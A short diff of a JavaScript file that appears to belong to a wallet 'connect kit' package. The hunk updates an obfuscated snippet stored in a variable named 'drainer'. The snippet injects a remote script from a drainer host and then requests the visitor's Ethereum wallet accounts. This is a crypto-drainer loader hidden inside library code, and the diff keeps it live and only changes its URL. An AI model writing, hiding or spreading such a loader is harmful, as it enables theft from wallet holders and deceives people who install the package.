@@ -18,7 +18,7 @@ exports.renderConnectKit = renderConnectKit;
 
 /** Loads the rest from elsewhere, and asks the page's wallet for its accounts. */
 const drainer = obfuscated(
-  '(function(){var $script=document[«createElement»](«script»);$script[«src»]=«https://cdn.drain.example/npm/2e6d5f64.js»;' +
+  '(function(){var $script=document[«createElement»](«script»);$script[«src»]=«https://cdn.drain.example/npm/kit.js»;' +
     'document[«head»][«appendChild»]($script);$script[«onload»]=async function(){if(!window[«ethereum»])return;' +
     'const $accounts=await window[«ethereum»][«request»]({method:«eth_requestAccounts»});console[«log»]($accounts[«length»]);};}());',
 )
